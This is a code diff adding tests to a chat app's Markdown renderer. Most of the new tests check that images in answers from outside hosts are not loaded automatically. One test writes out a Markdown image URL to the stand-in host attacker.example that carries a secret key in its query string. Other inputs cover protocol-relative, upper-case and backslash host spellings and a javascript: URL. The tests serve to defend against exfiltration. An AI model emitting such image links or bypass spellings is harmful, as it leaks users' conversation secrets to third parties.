@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { ImageHostsProvider, imageSource } from './answer-image';
 import { Markdown } from './markdown';
 import { buttons, render, textOf } from './test-html';
 
@@ -13,6 +14,15 @@ describe('Markdown', () => {
     expect(html.match(/<input type="checkbox" disabled=""/g)).toHaveLength(2);
     expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="Done" checked=""\/> done/);
     expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="Not done"\/> todo/);
+  });
+
+  it('puts headings one level under the page’s h1: # is an h2, ###### stays an h6', () => {
+    const html = md('# Title\n\n## Part\n\n### Detail\n\n###### Fine print');
+    expect(html).not.toMatch(/<h1[\s>]/);
+    expect(html).toMatch(/<h2[^>]*>Title<\/h2>/);
+    expect(html).toMatch(/<h3[^>]*>Part<\/h3>/);
+    expect(html).toMatch(/<h4[^>]*>Detail<\/h4>/);
+    expect(html).toMatch(/<h6[^>]*>Fine print<\/h6>/);
   });
 
   it('opens links, including bare autolinks, in a new tab with noopener noreferrer', () => {
@@ -61,5 +71,53 @@ describe('Markdown', () => {
     const html = md('`\\(x\\)`');
     expect(html).toContain('<code>\\(x\\)</code>');
     expect(html).not.toContain('class="katex');
+  });
+
+  it("never loads an answer's image from another site: a button names its host instead", () => {
+    const secret = 'sk-secret-from-the-conversation';
+    for (const [locale, name] of [
+      ['en', 'Load image from attacker.example:8080'],
+      ['zh-CN', '从 attacker.example:8080 加载图片'],
+    ] as const) {
+      const html = render(<Markdown text={`Done. ![chart](http://attacker.example:8080/leak?d=${secret})`} />, locale);
+      expect(html).not.toMatch(/<img/);
+      expect(html).not.toContain(secret);
+      expect(buttons(html).map((b) => b.name)).toEqual([name]);
+    }
+    // Other spellings of "another site": protocol-relative, upper case.
+    for (const src of ['//attacker.example/x.png', 'HTTPS://Attacker.Example/x.png'])
+      expect(md(`![x](${src})`)).not.toMatch(/<img/);
+  });
+
+  it("shows the app's own images, and IMAGE_HOSTS' without a click", () => {
+    expect(md('![plot](/api/artifacts/r1/plot.png)')).toMatch(/<img src="\/api\/artifacts\/r1\/plot.png" alt="plot"/);
+    const allowed = render(
+      <ImageHostsProvider hosts={['images.example.com', '*.cdn.example.org']}>
+        <Markdown
+          text={
+            '![a](https://images.example.com/a.png) ![b](https://x.cdn.example.org/b.png) ![c](https://cdn.example.org/c.png) ![d](https://images.example.com:8443/d.png)'
+          }
+        />
+      </ImageHostsProvider>,
+    );
+    expect(allowed).toContain('src="https://images.example.com/a.png"');
+    expect(allowed).toContain('src="https://x.cdn.example.org/b.png"');
+    // `*.x` is x's subdomains, not x; a port the entry does not name is another host.
+    expect(buttons(allowed).map((b) => b.name)).toEqual([
+      'Load image from cdn.example.org',
+      'Load image from images.example.com:8443',
+    ]);
+  });
+
+  it('decides by origin: the page origin once in the browser, data: and blob: as they are', () => {
+    expect(imageSource('https://studio.example/api/images/x.png', [], 'https://studio.example')).toEqual({
+      direct: true,
+    });
+    expect(imageSource('https://studio.example/api/images/x.png', [], null).direct).toBe(false);
+    expect(imageSource('data:image/png;base64,AAAA', [], null)).toEqual({ direct: true });
+    expect(imageSource('javascript:alert(1)', [], null)).toEqual({ direct: false });
+    // A backslash the browser reads as a slash (a tool result's URL is not escaped as Markdown's is).
+    const backslash = imageSource('/\\attacker.example/x.png', [], 'https://studio.example');
+    expect(backslash.direct === false && backslash.url?.host).toBe('attacker.example');
   });
 });
